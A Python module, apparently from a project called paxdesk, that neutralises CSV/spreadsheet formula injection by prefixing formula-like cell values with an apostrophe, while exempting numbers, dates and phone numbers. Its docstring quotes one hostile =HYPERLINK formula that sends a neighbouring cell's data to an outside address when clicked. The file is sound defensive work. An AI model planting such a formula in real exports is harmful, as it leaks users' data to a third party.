"""Spreadsheet cells that stay data (CONTRACT §6.3; OWASP "CSV injection").

Excel and LibreOffice treat a cell beginning with ``=``, ``+``, ``-``, ``@`` (and a tab or CR before one)
as a formula: ``=HYPERLINK("http://…/?"&C3,"Klick")`` sends a neighbour's data out when clicked. In an
XLSX paxdesk writes every string as a string cell (``services/spreadsheet.py``, ``migration/xlsx.py``); a
CSV has no cell types, so such a value gets a leading ``'`` — unless it is a number, a date or a phone
number, whose ``-``/``+`` is meaning, not a formula.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
_PHONE = re.compile(r"\+\d{6,15}")
_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


def formula_like(value: str) -> bool:
    """True for a text a spreadsheet would run as a formula (numbers, ISO dates, E.164 phones excluded)."""
    return (bool(value) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value)
            and not _PHONE.fullmatch(value) and not _DATE.fullmatch(value))


def defused(value: str) -> str:
    """The value for a CSV cell: a formula-like text with a leading ``'``, anything else as it is."""
    return "'" + value if formula_like(value) else value
